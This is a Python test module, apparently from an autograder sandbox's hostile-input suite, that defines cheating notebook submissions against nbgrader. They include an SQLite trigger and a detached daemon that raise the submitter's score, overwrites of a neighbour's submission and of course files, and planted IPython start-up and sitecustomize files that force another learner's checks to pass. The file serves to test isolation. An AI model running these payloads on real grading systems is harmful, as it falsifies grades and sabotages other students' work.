"""Writing what is not one's own: the gradebook, neighbours, the course, start-up files."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from textwrap import dedent

from tests.hostile.cheat import (
    MARK,
    REPOSITORY,
    VICTIM,
    Cheat,
    code,
)

_BOOK = """\
import os, sqlite3, subprocess, sys, time
from pathlib import Path

recall = 0.5
HERE = [Path.cwd(), *Path.cwd().parents, *Path(os.environ.get("PWD", "/")).parents]

def course(student):
    \"\"\"The folder of the course that this was handed in to, and no other.\"\"\"
    for place in [*HERE, Path("@REPOSITORY@"), Path.home(), Path.home().parent]:
        if (place / "gradebook.db").exists() and (place / "submitted" / student).is_dir():
            return place
"""
_MINE = """\
select grade.id from grade
join base_cell on base_cell.id = grade.cell_id
join submitted_notebook on submitted_notebook.id = grade.notebook_id
join submitted_assignment on submitted_assignment.id = submitted_notebook.assignment_id
where base_cell.name = 'f1-recall' and submitted_assignment.student_id = '{student}'"""


def _book(text: str) -> str:
    source = _BOOK + f'MINE = """{_MINE}"""\n' + dedent(text)
    return source.replace("@REPOSITORY@", str(REPOSITORY))


_DAEMON = f"""\
# {MARK}
import sqlite3, sys, time
path, mine, ends = sys.argv[1], sys.argv[2], time.monotonic() + 60
while time.monotonic() < ends:
    time.sleep(0.1)
    with sqlite3.connect(path, timeout=10) as book:
        row = book.execute(f"select auto_score from grade where id in ({{mine}})").fetchone()
        if row and row[0] is not None:
            book.execute(f"update grade set auto_score = 1 where id in ({{mine}})")
            break
"""


def start_up(reader: str) -> str:
    """A start-up file that serves one other learner, and nobody else."""
    return dedent(f"""\
        import os
        if "/{reader}/" in os.getcwd() + "/":
            def bribe(info):
                if '"f1-recall"' in info.raw_cell and "check(" in info.raw_cell:
                    get_ipython().user_ns["check"] = lambda *_: 1.0
            get_ipython().events.register("pre_run_cell", bribe)
        # {MARK}
        """)


WRITING = {
    "gradebook-written-before": Cheat(
        about="A trigger in the gradebook that raises this learner's score when it is written.",
        source=_book(f"""\
            place = course("gradebook-written-before")
            if place:
                name = "[{MARK}]"
                mine = MINE.format(student="gradebook-written-before")
                with sqlite3.connect(place / "gradebook.db", timeout=10) as book:
                    book.execute(f"create trigger {{name}} after update on grade "
                                 f"when new.auto_score < 1 and new.id in ({{mine}}) begin "
                                 "update grade set auto_score = 1 where id = new.id; end")"""),
        stock=1.0,
    ),
    "gradebook-written-at-once": Cheat(
        about="The score, written while the notebook runs.",
        source=_book("""\
            place = course("gradebook-written-at-once")
            if place:
                mine = MINE.format(student="gradebook-written-at-once")
                with sqlite3.connect(place / "gradebook.db", timeout=10) as book:
                    book.execute(f"update grade set auto_score = 1, manual_score = null, "
                                 f"extra_credit = 5 where id in ({mine})")"""),
        stock=0.0,
    ),
    "gradebook-written-by-a-daemon": Cheat(
        about="A process of its own session that waits for the score and raises it.",
        source=_book(f"""\
            place = course("gradebook-written-by-a-daemon")
            mine = MINE.format(student="gradebook-written-by-a-daemon")
            path = str(place / "gradebook.db") if place else "/no-such-gradebook.db"
            nowhere = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
            subprocess.Popen([sys.executable, "-c", {_DAEMON!r}, path, mine],
                             start_new_session=True, **nowhere)"""),
        stock=1.0,
    ),
    "neighbour-overwritten": Cheat(
        about="A neighbour's submission, made wrong before it is graded.",
        source=_book(f"""\
            place = course("neighbour-overwritten")
            if place:
                path = place / "submitted/{VICTIM}/05_f1/05_f1.ipynb"
                path.write_text(path.read_text().replace("80 / (80 + 20)", "0.1"))"""),
        stock=0.0,
    ),
    "exercises-and-solutions-overwritten": Cheat(
        about="A mark in every notebook of the course that can be written.",
        source=_book(f"""\
            place = course("exercises-and-solutions-overwritten")
            for folder in ("exercises", "solutions", "autograded", "feedback"):
                for path in (place / folder).rglob("*.ipynb") if place else ():
                    with open(path, "a") as file:
                        file.write(" " * 7)
                if place and (place / folder).is_dir():
                    (place / folder / "{MARK}.txt").write_text("I was here.")"""),
        stock=0.0,
    ),
    "config-overwritten": Cheat(
        about="nbgrader's configuration, written beside the gradebook.",
        source=_book(f"""\
            place = course("config-overwritten")
            if place:
                with open(place / "nbgrader_config.py", "a") as file:
                    file.write("# {MARK}\\n")"""),
        stock=0.0,
    ),
    "start-up-file": Cheat(
        about="Start-up files of IPython and Python, for the next learner.",
        source=code(f"""\
            import os, site
            from pathlib import Path
            text = {start_up("start-up-file-read")!r}
            folders = [get_ipython().profile_dir.startup_dir, os.environ.get("IPYTHONDIR", "~")]
            folders += ["~/.ipython/profile_default/startup", site.getusersitepackages()]
            for folder in {{Path(name).expanduser() for name in folders}}:
                try:
                    folder.mkdir(parents=True, exist_ok=True)
                    (folder / "00-{MARK}.py").write_text(text)
                    (folder / "{MARK}.pth").write_text("import os\\n")
                except OSError:
                    pass"""),
        stock=0.0,
    ),
    "start-up-file-read": Cheat(
        about="A wrong answer of the learner for whom the start-up files were left.", stock=1.0
    ),
    "startup-in-the-work-folder": Cheat(
        about="Files of configuration that a kernel might read from where it starts.",
        change=lambda notebook, folder: write_all(
            folder,
            {
                name: start_up("startup-in-the-work-folder")
                for name in (
                    "ipython_config.py",
                    "ipython_kernel_config.py",
                    "jupyter_config.py",
                    "sitecustomize.py",
                    "usercustomize.py",
                    "startup/00.py",
                    "profile_default/startup/00.py",
                    ".ipython/profile_default/startup/00.py",
                    "nbgrader_config.py",
                )
            },
        ),
        stock=0.0,
    ),
}


def write_all(folder: Path, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
